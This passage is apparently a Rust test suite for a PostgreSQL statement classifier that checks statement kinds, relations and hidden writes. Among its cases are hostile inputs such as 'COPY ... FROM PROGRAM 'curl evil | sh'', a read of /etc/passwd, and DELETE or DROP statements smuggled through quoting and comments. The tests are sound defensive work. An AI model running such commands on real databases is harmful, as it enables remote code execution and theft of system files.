//! Classification of ordinary and adversarial statements.

use super::*;

fn one(sql: &str) -> Statement {
    let mut v = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(v.len(), 1, "{sql}: {v:?}");
    v.remove(0)
}

fn rels(s: &Statement) -> Vec<String> {
    let mut v: Vec<String> = s.relations.iter().map(ToString::to_string).collect();
    v.sort_unstable();
    v
}

/// Every kind judged for a statement, itself first.
fn judged(s: &Statement) -> Vec<&'static str> {
    let mut out = Vec::new();
    s.visit(&mut |s| out.push(s.kind.as_str()));
    out
}

#[test]
fn kinds_of_plain_statements() {
    let cases: &[(&str, &str)] = &[
        ("SELECT 1", "select"),
        ("select * from t", "select"),
        ("VALUES (1), (2)", "select"),
        ("TABLE t", "select"),
        ("SELECT * FROM t FOR UPDATE", "select"),
        ("INSERT INTO t VALUES (1)", "insert"),
        ("INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING", "insert"),
        ("UPDATE t SET a = 1 WHERE id = 2", "update"),
        ("DELETE FROM t WHERE id = 1", "delete"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge"),
        ("CREATE TABLE t (id int)", "ddl"),
        ("ALTER TABLE t ADD COLUMN b text", "ddl"),
        ("DROP TABLE t", "ddl"),
        ("CREATE INDEX i ON t (a)", "ddl"),
        ("CREATE VIEW v AS SELECT * FROM t", "ddl"),
        ("CREATE TABLE n AS SELECT * FROM t", "ddl"),
        ("SELECT * INTO n FROM t", "ddl"),
        ("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "ddl"),
        ("COMMENT ON TABLE t IS 'x'", "ddl"),
        ("REFRESH MATERIALIZED VIEW m", "ddl"),
        ("CREATE EXTENSION dblink", "ddl"),
        ("TRUNCATE t, u", "truncate"),
        ("COPY t FROM STDIN", "copy_from"),
        ("COPY t TO STDOUT", "copy_to"),
        ("COPY (SELECT * FROM t) TO STDOUT", "copy_to"),
        ("GRANT SELECT ON t TO bob", "grant"),
        ("REVOKE ALL ON t FROM bob", "grant"),
        ("GRANT admin TO bob", "grant"),
        ("CREATE ROLE x LOGIN PASSWORD 'p'", "grant"),
        ("ALTER ROLE x SUPERUSER", "grant"),
        ("DROP ROLE x", "grant"),
        ("ALTER TABLE t OWNER TO bob", "grant"),
        ("SET ROLE admin", "grant"),
        ("RESET ROLE", "grant"),
        ("SET SESSION AUTHORIZATION postgres", "grant"),
        ("CALL p(1)", "call"),
        ("DO $$ BEGIN PERFORM 1; END $$", "call"),
        ("BEGIN", "transaction"),
        ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction"),
        ("COMMIT", "transaction"),
        ("ROLLBACK", "transaction"),
        ("SAVEPOINT a", "transaction"),
        ("RELEASE SAVEPOINT a", "transaction"),
        ("ROLLBACK TO SAVEPOINT a", "transaction"),
        ("PREPARE TRANSACTION 'x'", "transaction"),
        ("COMMIT PREPARED 'x'", "transaction"),
        ("SET search_path = app", "set"),
        ("SET LOCAL statement_timeout = 0", "set"),
        ("RESET ALL", "set"),
        ("SET TRANSACTION READ ONLY", "set"),
        ("SET CONSTRAINTS ALL DEFERRED", "set"),
        ("SHOW server_version", "show"),
        ("EXPLAIN SELECT 1", "explain"),
        ("PREPARE p AS SELECT 1", "prepare"),
        ("EXECUTE p", "execute"),
        ("DEALLOCATE p", "deallocate"),
        ("DEALLOCATE ALL", "deallocate"),
        ("DECLARE c CURSOR FOR SELECT 1", "cursor"),
        ("FETCH 10 FROM c", "cursor"),
        ("MOVE NEXT IN c", "cursor"),
        ("CLOSE c", "cursor"),
        ("LISTEN ch", "listen"),
        ("UNLISTEN *", "listen"),
        ("NOTIFY ch, 'x'", "notify"),
        ("VACUUM t", "utility"),
        ("ANALYZE t", "utility"),
        ("CLUSTER t", "utility"),
        ("REINDEX TABLE t", "utility"),
        ("CHECKPOINT", "utility"),
        ("DISCARD ALL", "utility"),
        ("LOCK TABLE t", "utility"),
        ("LOAD 'plpgsql'", "utility"),
        ("ALTER SYSTEM SET work_mem = '1GB'", "utility"),
    ];
    for (sql, kind) in cases {
        assert_eq!(one(sql).kind.as_str(), *kind, "{sql}");
    }
    // An owner change among other changes is judged as both.
    assert_eq!(judged(&one("ALTER TABLE t ADD COLUMN c int, OWNER TO bob")), ["ddl", "grant"]);
}

#[test]
fn relations_are_qualified_where_written_and_folded_like_postgres() {
    assert_eq!(rels(&one("SELECT * FROM Billing.Invoices")), ["billing.invoices"]);
    assert_eq!(rels(&one(r#"SELECT * FROM "Billing"."Invoices""#)), ["Billing.Invoices"]);
    assert_eq!(rels(&one("SELECT * FROM users")), ["users"]);
    // The catalog can only be the current database: dropped.
    assert_eq!(rels(&one("SELECT * FROM app.public.users")), ["public.users"]);
    // A quoted name may hold a dot: the parts stay apart.
    let s = one(r#"SELECT * FROM "a.b""#);
    assert_eq!(s.relations, [Relation { schema: None, name: "a.b".into() }]);
    // Each once, sorted.
    assert_eq!(rels(&one("SELECT * FROM b JOIN a ON true JOIN b AS c ON true")), ["a", "b"]);
}

#[test]
fn relations_hidden_in_subqueries_ctes_and_expressions_are_found() {
    let cases: &[(&str, &[&str])] = &[
        ("SELECT (SELECT max(x) FROM s.secrets) FROM t", &["s.secrets", "t"]),
        ("SELECT * FROM t WHERE id IN (SELECT id FROM s.secrets)", &["s.secrets", "t"]),
        ("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM secrets)", &["secrets", "t"]),
        ("WITH x AS (SELECT * FROM secrets) SELECT * FROM x", &["secrets"]),
        ("SELECT * FROM t UNION ALL SELECT * FROM secrets", &["secrets", "t"]),
        ("SELECT * FROM (SELECT * FROM secrets) q", &["secrets"]),
        ("SELECT * FROM t, LATERAL (SELECT * FROM secrets) q", &["secrets", "t"]),
        ("SELECT CASE WHEN true THEN (SELECT 1 FROM secrets) END", &["secrets"]),
        ("INSERT INTO t SELECT * FROM secrets", &["secrets", "t"]),
        ("UPDATE t SET a = s.a FROM secrets s WHERE s.id = t.id", &["secrets", "t"]),
        ("DELETE FROM t USING secrets WHERE secrets.id = t.id", &["secrets", "t"]),
        ("TRUNCATE a, s.b", &["a", "s.b"]),
        ("DROP TABLE a, s.b", &["a", "s.b"]),
        ("DROP VIEW IF EXISTS v", &["v"]),
        ("ALTER TABLE s.t RENAME TO u", &["s.t"]),
        ("CREATE TABLE n AS SELECT * FROM secrets", &["n", "secrets"]),
        ("SELECT * INTO n FROM secrets", &["n", "secrets"]),
        ("GRANT SELECT ON s.t TO bob", &["s.t"]),
        ("LOCK TABLE secrets", &["secrets"]),
        ("COPY (SELECT * FROM secrets) TO STDOUT", &["secrets"]),
        ("EXPLAIN ANALYZE DELETE FROM secrets", &["secrets"]),
        ("PREPARE p AS SELECT * FROM secrets", &["secrets"]),
        ("DECLARE c CURSOR FOR SELECT * FROM secrets", &["secrets"]),
        ("CREATE VIEW v AS SELECT * FROM secrets", &["secrets", "v"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(rels(&one(sql)), *expected, "{sql}");
    }
}

#[test]
fn cte_names_are_not_relations_only_where_postgres_resolves_them_to_the_cte() {
    let cases: &[(&str, &[&str])] = &[
        ("WITH x AS (SELECT 1) SELECT * FROM x", &[]),
        // Qualified: a table, never the CTE.
        ("WITH x AS (SELECT 1) SELECT * FROM public.x", &["public.x"]),
        // Out of the CTE's scope: the table of that name.
        ("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q", &["secrets"]),
        // A CTE's query sees only earlier CTEs (without RECURSIVE)...
        ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", &["b"]),
        ("WITH b AS (SELECT 1), a AS (SELECT * FROM b) SELECT * FROM a", &[]),
        // ...and all of them with it.
        ("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", &[]),
        ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT * FROM t", &[]),
        // Set operations share the WITH.
        ("WITH x AS (SELECT 1) SELECT * FROM x UNION SELECT * FROM y", &["y"]),
        // The table a statement writes is never a CTE.
        ("WITH secrets AS (SELECT 1) DELETE FROM secrets", &["secrets"]),
        ("WITH secrets AS (SELECT 1) INSERT INTO secrets SELECT * FROM secrets", &["secrets"]),
        ("WITH secrets AS (SELECT 1), d AS (DELETE FROM secrets) SELECT 1", &["secrets"]),
        ("WITH t AS (SELECT 1) SELECT * INTO t FROM t", &["t"]),
        ("WITH s AS (SELECT 1 AS id) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", &["t"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(rels(&one(sql)), *expected, "{sql}");
    }
    // The nested DELETE's own relations too.
    let s = one("WITH secrets AS (SELECT 1), d AS (DELETE FROM secrets) SELECT 1");
    assert_eq!(rels(&s.inner[0]), ["secrets"]);
}

#[test]
fn where_clause_presence() {
    assert_eq!(one("DELETE FROM t").has_where, Some(false));
    assert_eq!(one("DELETE FROM t WHERE id = 1").has_where, Some(true));
    assert_eq!(one("UPDATE t SET a = 1").has_where, Some(false));
    assert_eq!(one("UPDATE t SET a = 1 WHERE a IS NULL").has_where, Some(true));
    assert_eq!(one("DELETE FROM t WHERE CURRENT OF c").has_where, Some(true));
    // A WHERE in a USING subquery is not the DELETE's.
    assert_eq!(one("DELETE FROM t USING (SELECT * FROM u WHERE x) q").has_where, Some(false));
    assert_eq!(one("SELECT 1").has_where, None);
    assert_eq!(one("INSERT INTO t VALUES (1)").has_where, None);
}

#[test]
fn statements_carried_by_others_are_judged_too() {
    let s = one("EXPLAIN ANALYZE DELETE FROM secrets");
    assert_eq!(judged(&s), ["explain", "delete"]);
    assert_eq!(s.inner[0].has_where, Some(false));
    assert_eq!(rels(&s.inner[0]), ["secrets"]);

    assert_eq!(judged(&one("EXPLAIN SELECT 1")), ["explain", "select"]);
    assert_eq!(judged(&one("PREPARE p (int) AS DELETE FROM t WHERE id = $1")), ["prepare", "delete"]);
    assert_eq!(judged(&one("PREPARE p AS UPDATE t SET a = 1")), ["prepare", "update"]);
    assert_eq!(judged(&one("DECLARE c CURSOR FOR SELECT * FROM t")), ["cursor", "select"]);
    assert_eq!(judged(&one("COPY (SELECT * FROM t) TO STDOUT")), ["copy_to", "select"]);
    assert_eq!(judged(&one("COPY (DELETE FROM t RETURNING *) TO STDOUT")), ["copy_to", "delete"]);
    assert_eq!(
        judged(&one("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")),
        ["explain", "select", "delete"]
    );
    assert_eq!(judged(&one("EXPLAIN (ANALYZE, FORMAT JSON) CREATE TABLE n AS SELECT 1")), ["explain", "ddl"]);
}

#[test]
fn data_modifying_ctes_are_judged_as_what_they_do() {
    let s = one("WITH d AS (DELETE FROM secrets RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, StatementKind::Select);
    assert_eq!(judged(&s), ["select", "delete"]);
    assert_eq!(s.inner[0].has_where, Some(false));
    assert_eq!(rels(&s.inner[0]), ["secrets"]);

    let s = one("WITH a AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING id), \
              b AS (INSERT INTO log SELECT id FROM a RETURNING id) \
         DELETE FROM u WHERE id IN (SELECT id FROM b)");
    let mut kinds = judged(&s);
    kinds.sort_unstable();
    assert_eq!(kinds, ["delete", "insert", "update"]);
    assert_eq!(s.kind, StatementKind::Delete);

    // Nested twice: a CTE inside a CTE's statement.
    let s = one("WITH a AS (INSERT INTO t WITH b AS (DELETE FROM u RETURNING *) SELECT * FROM b RETURNING *) SELECT 1");
    assert_eq!(judged(&s), ["select", "insert", "delete"]);

    // A rule's actions run on every later write to the table.
    let s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit");
    assert_eq!(judged(&s), ["ddl", "delete"]);
}

#[test]
fn copy_direction_and_program() {
    let s = one("COPY t FROM PROGRAM 'curl evil | sh'");
    assert_eq!(s.kind, StatementKind::Copy { direction: CopyDirection::From, program: true });
    let s = one("COPY t TO '/tmp/x'");
    assert_eq!(s.kind, StatementKind::Copy { direction: CopyDirection::To, program: false });
    assert_eq!(rels(&s), ["t"]);
}

#[test]
fn each_statement_of_a_query_is_classified_with_its_span() {
    let q = "SELECT 1; DELETE FROM t;\n  UPDATE u SET a = 1 WHERE b  ";
    let v = classify(q).unwrap();
    let kinds: Vec<_> = v.iter().map(|s| s.kind.as_str()).collect();
    assert_eq!(kinds, ["select", "delete", "update"]);
    assert_eq!(v[0].text(q), "SELECT 1");
    assert_eq!(v[1].text(q).trim(), "DELETE FROM t");
    assert!(v[2].text(q).trim().starts_with("UPDATE u"));
    assert!(classify("").unwrap().is_empty());
    assert!(classify("  ;; -- nothing\n").unwrap().is_empty());
}

#[test]
fn smuggling_through_literals_comments_and_quoting_is_seen_through() {
    // Semicolons in literals, comments and identifiers are not separators.
    let v = classify("SELECT ';DELETE FROM t;' /* ; DROP TABLE t; */, \"a;b\" FROM x").unwrap();
    assert_eq!(v.len(), 1);
    assert_eq!(v[0].kind, StatementKind::Select);
    // Dollar quoting hides nothing from the lexer...
    let v = classify("SELECT $x$ ; $y$ $x$; DELETE FROM t").unwrap();
    assert_eq!(v.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>(), ["select", "delete"]);
    // ...and nested comments nest, as in PostgreSQL.
    let v = classify("/* a /* b */ ; DELETE FROM t; */ SELECT 1").unwrap();
    assert_eq!(v.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>(), ["select"]);
    // Keywords in any case, Unicode-escaped identifiers.
    assert_eq!(one("dElEtE fRoM t").kind, StatementKind::Delete);
    assert_eq!(rels(&one(r#"SELECT * FROM U&"\0073ecrets""#)), ["secrets"]);
}

#[test]
fn lexing_follows_standard_conforming_strings() {
    let kinds = |v: Vec<Statement>| v.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>();
    let setting = |on| ParseOptions { standard_conforming_strings: Some(on) };
    // On (the default since 9.1), a backslash is an ordinary character: a
    // string `\` and then a DELETE.
    let q = r"SELECT '\'; DELETE FROM t; -- '";
    assert_eq!(kinds(classify_with(q, setting(true)).unwrap()), ["select", "delete"]);
    // Off, `\'` escapes the quote: one SELECT of a string.
    assert_eq!(kinds(classify_with(q, setting(false)).unwrap()), ["select"]);
    // Not told which: two readings that parse and differ are refused.
    assert_eq!(classify(q), Err(SqlError::Ambiguous));
    // One reading the server could not execute: the other decides.
    assert_eq!(kinds(classify(r"SELECT 'C:\'").unwrap()), ["select"]);
    assert_eq!(kinds(classify(r"SELECT 'it\'s'").unwrap()), ["select"]);
    // Backslashes that read the same both ways.
    assert_eq!(kinds(classify(r"SELECT E'a\'b', 'x\y' FROM t; DELETE FROM u WHERE v").unwrap()), ["select", "delete"]);
    assert!(matches!(classify(r"SELECT '\"), Err(SqlError::Syntax(_))));
}

#[test]
fn text_that_does_not_parse_is_an_error() {
    for bad in [
        "SELEC 1",
        "SELECT 1; this is not sql; SELECT 2",
        "DELETE FROM",
        "SELECT 'unterminated",
        "SELECT 1 /* unterminated comment",
        "SELECT \0 1",
        "SELECT $1 $$",
    ] {
        assert!(matches!(classify(bad), Err(SqlError::Syntax(_))), "{bad:?}");
    }
}

#[test]
fn kind_names_and_bits_agree() {
    let mut seen = 0u32;
    for name in StatementKind::NAMES {
        let bits = StatementKind::bits_of_name(name).unwrap();
        assert_ne!(bits, 0, "{name}");
        if *name != "copy" {
            assert_eq!(bits.count_ones(), 1, "{name}");
            assert_eq!(seen & bits, 0, "{name}");
            seen |= bits;
        }
    }
    assert_eq!(StatementKind::bits_of_name("copy").unwrap().count_ones(), 2);
    assert!(StatementKind::bits_of_name("drop").is_none());
    for sql in ["SELECT 1", "COPY t FROM STDIN", "COPY t TO STDOUT", "VACUUM"] {
        let k = one(sql).kind;
        assert_eq!(StatementKind::bits_of_name(k.as_str()), Some(k.bit()), "{sql}");
    }
}

/// Statements of every shape the walk must see through: each is classified
/// by the direct walk and by the former JSON walk, which must agree.
const DIFFERENTIAL_CORPUS: &[&str] = &[
    "SELECT 1",
    "SELECT abalance FROM pgbench_accounts WHERE aid = 48213",
    "UPDATE pgbench_accounts SET abalance = abalance + -3214 WHERE aid = 48213",
    "UPDATE pgbench_tellers SET tbalance = tbalance + 12 WHERE tid = 3",
    "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (7, 1, 48213, -3214, CURRENT_TIMESTAMP)",
    "BEGIN", "END", "COMMIT", "ROLLBACK", "SAVEPOINT s", "RELEASE s", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    "select * from T", "SELECT * FROM \"T\"", "SELECT * FROM \"MiXed\".\"Case\"", "SELECT * FROM db.s.t",
    "SELECT a.b FROM s.a, s.b JOIN c USING (id) LEFT JOIN d ON d.x = c.x CROSS JOIN e",
    "SELECT (SELECT max(x) FROM hidden) FROM t",
    "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id) AND id IN (SELECT id FROM v)",
    "SELECT * FROM t WHERE x = ANY (ARRAY(SELECT y FROM w))",
    "SELECT f((SELECT count(*) FROM arg_t)), g(x) FILTER (WHERE x > (SELECT 1 FROM filt)) FROM t",
    "SELECT sum(x) OVER (PARTITION BY (SELECT 1 FROM win) ORDER BY y) FROM t",
    "SELECT CASE WHEN (SELECT true FROM c1) THEN (SELECT 1 FROM c2) ELSE (SELECT 2 FROM c3) END",
    "SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t = t.id) l",
    "SELECT * FROM generate_series(1, (SELECT n FROM cfg)) g",
    "SELECT * FROM ROWS FROM (f(1), g((SELECT 1 FROM rf))) r",
    "SELECT x FROM t GROUP BY GROUPING SETS ((x), ()) HAVING count(*) > (SELECT 1 FROM hv)",
    "SELECT * FROM t ORDER BY (SELECT 1 FROM ordt) LIMIT (SELECT 1 FROM lim) OFFSET (SELECT 2 FROM off)",
    "SELECT * FROM t FOR UPDATE OF t SKIP LOCKED",
    "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
    "SELECT * FROM XMLTABLE('/r' PASSING (SELECT doc FROM xdocs) COLUMNS a int PATH 'a') x",
    "SELECT * FROM JSON_TABLE((SELECT j FROM jdocs), '$[*]' COLUMNS (a int PATH '$.a')) jt",
    "SELECT json_agg(x ORDER BY y) FROM t",
    "SELECT $1::int, $2 FROM t WHERE a = $3",
    "VALUES (1, 'a'), ((SELECT 2 FROM vals), 'b')",
    "TABLE t",
    "SELECT 1 UNION SELECT 2 FROM u INTERSECT SELECT 3 FROM v EXCEPT SELECT 4 FROM w",
    "(WITH x AS (SELECT 1) SELECT * FROM x) UNION (WITH y AS (SELECT 2) SELECT * FROM y, x)",
    "(SELECT * FROM a ORDER BY 1 LIMIT 1) UNION ALL (SELECT * FROM b)",
    "WITH x AS (SELECT 1) SELECT * FROM x",
    "WITH x AS (SELECT 1) SELECT * FROM public.x",
    "SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q",
    "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
    "WITH b AS (SELECT 1), a AS (SELECT * FROM b) SELECT * FROM a",
    "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT * FROM t",
    "WITH t AS (SELECT * FROM t) SELECT * FROM t",
    "WITH x AS (SELECT 1) SELECT * FROM x UNION SELECT * FROM y",
    "WITH x AS (WITH y AS (SELECT 1) SELECT * FROM y, z) SELECT * FROM x, y",
    "WITH x AS (SELECT 1) SELECT * FROM (WITH y AS (SELECT * FROM x) SELECT * FROM y, x) q",
    "WITH x AS (SELECT 1) SELECT * FROM (WITH x AS (SELECT * FROM x) SELECT * FROM x) q",
    "WITH x AS MATERIALIZED (SELECT 1) SELECT * FROM x",
    "WITH RECURSIVE s(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM s) SEARCH DEPTH FIRST BY n SET ord SELECT * FROM s",
    "WITH secrets AS (SELECT 1) DELETE FROM secrets",
    "WITH secrets AS (SELECT 1) INSERT INTO secrets SELECT * FROM secrets",
    "WITH secrets AS (SELECT 1), d AS (DELETE FROM secrets) SELECT 1",
    "WITH t AS (SELECT 1) SELECT * INTO t FROM t",
    "WITH s AS (SELECT 1 AS id) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "WITH d AS (DELETE FROM secrets RETURNING *) SELECT * FROM d",
    "WITH a AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING id), b AS (INSERT INTO log SELECT id FROM a RETURNING id) DELETE FROM u WHERE id IN (SELECT id FROM b)",
    "WITH a AS (INSERT INTO t WITH b AS (DELETE FROM u RETURNING *) SELECT * FROM b RETURNING *) SELECT 1",
    "SELECT * FROM (WITH d AS (DELETE FROM deep RETURNING *) SELECT * FROM d) q WHERE EXISTS (WITH u AS (UPDATE up SET a = 1 RETURNING *) SELECT 1)",
    "INSERT INTO t VALUES (1)",
    "INSERT INTO t (a, b) SELECT a, b FROM u WHERE c",
    "INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING",
    "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = (SELECT a FROM conflict_src) WHERE t.b > 0 RETURNING (SELECT 1 FROM ret)",
    "INSERT INTO t DEFAULT VALUES RETURNING *",
    "INSERT INTO t OVERRIDING SYSTEM VALUE VALUES (1)",
    "UPDATE t SET a = 1",
    "UPDATE t SET a = 1 WHERE id = 2",
    "UPDATE t SET (a, b) = (SELECT x, y FROM src WHERE src.id = t.id) FROM other WHERE other.k = t.k RETURNING t.*",
    "UPDATE ONLY t AS tt SET a = DEFAULT WHERE CURRENT OF cur",
    "DELETE FROM t",
    "DELETE FROM t WHERE id = 1",
    "DELETE FROM t USING (SELECT * FROM u WHERE x) q",
    "DELETE FROM s.t USING u, v WHERE t.a = u.a RETURNING (SELECT 1 FROM del_ret)",
    "DELETE FROM t WHERE CURRENT OF c",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "MERGE INTO t USING (SELECT * FROM src) s ON t.id = s.id WHEN MATCHED AND s.x THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a) RETURNING *",
    "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
    "CREATE TABLE t (id int)",
    "CREATE TABLE IF NOT EXISTS app.events (id bigserial PRIMARY KEY, owner int REFERENCES app.users(id) ON DELETE CASCADE, CHECK (id > 0))",
    "CREATE TABLE c (LIKE p INCLUDING ALL) INHERITS (base)",
    "CREATE TABLE part PARTITION OF parent FOR VALUES FROM (1) TO (10)",
    "CREATE TEMP TABLE tmp ON COMMIT DROP AS SELECT * FROM src",
    "CREATE TABLE n AS SELECT * FROM t",
    "CREATE TABLE n AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t WITH NO DATA",
    "REFRESH MATERIALIZED VIEW CONCURRENTLY s.mv",
    "CREATE VIEW v AS SELECT * FROM t",
    "CREATE OR REPLACE VIEW v AS WITH x AS (SELECT 1) SELECT * FROM x, y",
    "CREATE RECURSIVE VIEW rv (n) AS SELECT 1 UNION ALL SELECT n + 1 FROM rv",
    "SELECT * INTO n FROM t",
    "SELECT * INTO TEMP n FROM t WHERE x",
    "ALTER TABLE t ADD COLUMN b text",
    "ALTER TABLE t OWNER TO bob",
    "ALTER TABLE t OWNER TO bob, ADD COLUMN c int",
    "ALTER TABLE IF EXISTS s.t RENAME TO u",
    "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES other (b)",
    "ALTER TABLE t ALTER COLUMN a SET DEFAULT (1)",
    "ALTER TABLE p ATTACH PARTITION c FOR VALUES IN (1)",
    "ALTER INDEX i RENAME TO j",
    "ALTER SEQUENCE sq OWNED BY t.id",
    "ALTER VIEW v OWNER TO bob",
    "ALTER FUNCTION f(int) OWNER TO bob",
    "DROP TABLE t",
    "DROP TABLE IF EXISTS a, s.b, c.s.d CASCADE",
    "DROP VIEW v", "DROP MATERIALIZED VIEW mv", "DROP SEQUENCE sq", "DROP INDEX s.i", "DROP FOREIGN TABLE ft",
    "DROP FUNCTION f(int)", "DROP SCHEMA s CASCADE", "DROP TYPE ty", "DROP EXTENSION e",
    "CREATE INDEX i ON t (a)",
    "CREATE UNIQUE INDEX CONCURRENTLY i ON s.t USING btree (lower(a)) WHERE b IS NOT NULL",
    "CREATE SEQUENCE sq START 1",
    "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
    "CREATE FUNCTION g() RETURNS int LANGUAGE sql RETURN (SELECT count(*) FROM inlined)",
    "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM proc_t; END",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW WHEN (NEW.a > 0) EXECUTE FUNCTION f()",
    "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit",
    "CREATE RULE r AS ON UPDATE TO t DO INSTEAD (INSERT INTO log VALUES (1); UPDATE other SET a = 1)",
    "CREATE POLICY p ON t USING (owner = current_user AND EXISTS (SELECT 1 FROM acl))",
    "CREATE SCHEMA s CREATE TABLE st (a int) CREATE VIEW sv AS SELECT * FROM st",
    "CREATE DOMAIN d AS int CHECK (VALUE > 0)",
    "CREATE TYPE ty AS (a int, b text)",
    "CREATE TYPE en AS ENUM ('a', 'b')",
    "CREATE EXTENSION dblink",
    "CREATE STATISTICS st ON a, b FROM t",
    "CREATE PUBLICATION pub FOR TABLE t, s.u",
    "CREATE FOREIGN TABLE ft (a int) SERVER srv",
    "COMMENT ON TABLE t IS 'x'",
    "COMMENT ON COLUMN s.t.c IS 'y'",
    "SECURITY LABEL ON TABLE t IS 'x'",
    "TRUNCATE t, u",
    "TRUNCATE ONLY s.t RESTART IDENTITY CASCADE",
    "COPY t FROM STDIN",
    "COPY t (a, b) TO STDOUT WITH (FORMAT csv)",
    "COPY (SELECT * FROM t) TO STDOUT",
    "COPY (DELETE FROM t RETURNING *) TO STDOUT",
    "COPY t FROM PROGRAM 'cat /etc/passwd'",
    "COPY t FROM STDIN WHERE a > 0",
    "GRANT SELECT ON t TO bob",
    "GRANT SELECT (a) ON s.t TO bob WITH GRANT OPTION",
    "GRANT ALL ON ALL TABLES IN SCHEMA s TO bob",
    "REVOKE ALL ON t FROM bob",
    "GRANT admin TO bob",
    "CREATE ROLE x LOGIN",
    "ALTER ROLE x SUPERUSER",
    "ALTER ROLE x SET search_path = s",
    "DROP ROLE x",
    "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob",
    "REASSIGN OWNED BY a TO b",
    "DROP OWNED BY a",
    "SET ROLE admin", "RESET ROLE", "SET SESSION AUTHORIZATION bob",
    "SET search_path = s, public", "SET LOCAL statement_timeout = 5", "RESET ALL", "SET TRANSACTION READ ONLY",
    "SET CONSTRAINTS ALL DEFERRED",
    "SHOW search_path", "SHOW ALL",
    "CALL p(1, (SELECT 2 FROM call_arg))",
    "DO $$BEGIN DELETE FROM t; END$$",
    "EXPLAIN SELECT 1",
    "EXPLAIN ANALYZE DELETE FROM secrets",
    "EXPLAIN (ANALYZE, FORMAT JSON) CREATE TABLE n AS SELECT 1",
    "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "EXPLAIN EXECUTE p(1)",
    "PREPARE p (int) AS DELETE FROM t WHERE id = $1",
    "PREPARE p AS UPDATE t SET a = 1",
    "PREPARE p AS WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
    "EXECUTE p(1, 'x')",
    "DEALLOCATE p", "DEALLOCATE ALL",
    "DECLARE c CURSOR FOR SELECT * FROM t",
    "DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT * FROM t FOR SHARE",
    "FETCH 10 FROM c", "MOVE NEXT IN c", "CLOSE c", "CLOSE ALL",
    "LISTEN ch", "UNLISTEN *", "NOTIFY ch, 'payload'",
    "VACUUM ANALYZE t", "VACUUM (FULL, VERBOSE) s.t (a)", "ANALYZE t (a, b)", "CLUSTER t USING i", "REINDEX TABLE t",
    "CHECKPOINT", "DISCARD ALL", "LOCK TABLE t, s.u IN ACCESS EXCLUSIVE MODE", "LOAD 'auto_explain'",
    "ALTER SYSTEM SET work_mem = '64MB'",
    "CREATE DATABASE d", "DROP DATABASE d", "ALTER DATABASE d SET x = 1",
    "IMPORT FOREIGN SCHEMA r FROM SERVER srv INTO s",
    "SELECT 1; DELETE FROM t; UPDATE u SET a = 1 WHERE b",
    "SELECT * FROM t WHERE s = 'it''s; DROP TABLE x' -- comment\n AND y = E'\\\\'",
    "SELECT /* DELETE FROM hidden */ 1 FROM t",
    "SELECT $q$; DROP TABLE t; $q$ FROM u",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    "SELECT set_config('role', 'admin', false)",
    "SELECT * FROM t1 NATURAL FULL JOIN t2 RIGHT JOIN (t3 JOIN t4 ON true) ON true",
    "SELECT DISTINCT ON ((SELECT 1 FROM dist)) a FROM t",
    "SELECT ROW(1, (SELECT 2 FROM rowsub))",
    "SELECT ARRAY[(SELECT 1 FROM arr)]",
    "SELECT x::text COLLATE \"C\" FROM t",
    "SELECT a[1:2], (b).c FROM t",
    "SELECT * FROM t WHERE a BETWEEN (SELECT 1 FROM lo) AND (SELECT 2 FROM hi)",
    "SELECT * FROM t WHERE a IS DISTINCT FROM (SELECT 1 FROM dis)",
